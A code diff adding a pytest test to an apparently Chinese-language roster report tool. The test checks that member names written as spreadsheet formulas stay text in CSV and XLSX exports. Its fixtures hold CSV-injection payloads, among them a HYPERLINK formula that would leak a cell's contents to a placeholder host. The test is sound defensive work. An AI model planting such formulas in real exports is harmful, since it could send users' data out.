@@ -3,6 +3,8 @@ on imported records with hand-computed expectations. No phone or ID number ever.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -102,3 +104,47 @@ def test_bad_period_is_a_clear_error(june, run):
     assert code == 1 and "时间段“2024-13”无法识别" in err and "Traceback" not in err
     code, _, err = run("-C", str(june), "report")
     assert code == 1 and "请在 --month、--quarter、--year 中选择一个" in err
+
+
+# Roster names a clerk might paste from elsewhere, or an attacker might choose: each would be
+# a live formula in a spreadsheet (OWASP CSV injection) if written as it is.
+FORMULA_NAMES = {
+    "M001": '=HYPERLINK("https://e.invalid/?leak="&A1,"点我")',
+    "M002": "+1+1",
+    "M003": "-2+3",
+    "M004": "@SUM(1,2)",
+    "M005": "=1+1",
+}
+
+
+def test_names_that_look_like_formulas_stay_text_in_the_csv_and_the_xlsx_ledger(june, run, tmp_path):
+    roster = june / "content" / "roster.yml"
+    text = roster.read_text(encoding="utf-8").replace("name: 专（兼）职巡防队", "name: =2*3")
+    for member_id, name in FORMULA_NAMES.items():
+        head, _, tail = text.partition(f"id: {member_id}\n")
+        old_name = tail.split("\n", 1)[0].split("name: ", 1)[1]
+        text = head + f"id: {member_id}\n" + tail.replace(f"name: {old_name}", f"name: '{name}'", 1)
+    roster.write_text(text, encoding="utf-8")
+
+    code, out, err = run("-C", str(june), "report", "--month", "2024-06", "--format", "csv")
+    assert code == 0, err
+    rows = {row[0]: row for row in csv.reader(io.StringIO(out))}
+    for member_id, name in FORMULA_NAMES.items():
+        assert rows[member_id][1] == "'" + name  # a quote in front: shown as text, never run
+    assert rows["M001"][2] == "'=2*3" and rows["M001"][3] == "1"  # numbers stay numbers
+
+    target = tmp_path / "ledger.xlsx"
+    code, _, err = run("-C", str(june), "report", "--month", "2024-06", "--format", "xlsx", "-o", str(target))
+    assert code == 0, err
+    workbook = load_workbook(target)
+    members = {row[0].value: row for row in workbook["队员明细"].iter_rows(min_row=3)}
+    for member_id, name in FORMULA_NAMES.items():
+        cell = members[member_id][1]
+        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", name, True)
+    team = members["M001"][2]
+    assert (team.data_type, team.value, team.quotePrefix) == ("s", "=2*3", True)
+    assert members["M001"][3].data_type == "n"
+    summary = workbook["队伍汇总"]
+    formulas = [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == [], formulas
+    assert any(c.value == "=2*3" for row in summary.iter_rows() for c in row)
